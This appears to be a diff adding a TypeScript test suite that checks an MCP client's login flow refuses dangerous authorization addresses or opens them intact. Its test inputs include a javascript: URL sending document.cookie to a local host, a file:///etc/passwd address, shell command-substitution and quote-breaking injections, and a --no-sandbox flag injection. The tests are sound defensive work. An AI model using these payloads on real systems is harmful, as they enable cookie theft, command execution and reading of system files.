@@ -1,0 +1,52 @@
+import { existsSync } from "node:fs"
+import { join } from "node:path"
+import { assert } from "@effect/vitest"
+import { loginAddress } from "@parley/mcp/LoginAddress"
+import { Effect, Result } from "effect"
+import type { Case } from "../suite.ts"
+import { here, usable } from "./login.ts"
+
+/** The server wants a browser to be sent to an address that must not be opened: nothing is, and nothing is run. */
+const refused = (name: string, address: string): Case => ({
+  id: "X06",
+  name,
+  run: Effect.gen(function* () {
+    const world = yield* here
+    assert.isTrue(Result.isFailure(loginAddress(address)))
+    world.server.behaviour.metadata = { authorization_endpoint: address }
+    yield* Effect.flip(world.logIn())
+    assert.isUndefined(world.opened())
+    assert.deepStrictEqual(world.said, [])
+    world.server.behaviour.metadata = {}
+    yield* usable(world)
+  })
+})
+
+/** An address that is one, and that a shell would read otherwise: it arrives in one piece, and nothing else happens. */
+const inOnePiece = (name: string, text: (marker: string) => string): Case => ({
+  id: "X06",
+  name,
+  run: Effect.gen(function* () {
+    const world = yield* here
+    const marker = join(world.home, "owned")
+    const { origin } = world.server
+    world.server.behaviour.metadata = { authorization_endpoint: `${origin}/authorize?x=${text(marker)}` }
+    yield* world.logIn()
+    const words = world.opened() ?? []
+    assert.lengthOf(words, 1)
+    assert.isTrue(words[0]?.startsWith(`${origin}/authorize?x=`))
+    assert.match(words[0] ?? "", /^[^\s"'`\\<>|^]+$/)
+    assert.include(world.said.join("\n"), `To log in at ${new URL(origin).host}, `)
+    assert.isFalse(existsSync(marker))
+    world.server.behaviour.metadata = {}
+    yield* usable(world)
+  })
+})
+
+export const opened: ReadonlyArray<Case> = [
+  refused("javascript:", "javascript:fetch('http://127.0.0.1:9/'+document.cookie)"),
+  refused("file:", "file:///etc/passwd"),
+  inOnePiece("$(…)", (marker) => `$(touch ${marker})`),
+  inOnePiece("quotes", (marker) => `";touch '${marker}';\`touch ${marker}\`"`),
+  refused("-flag", "--no-sandbox")
+]
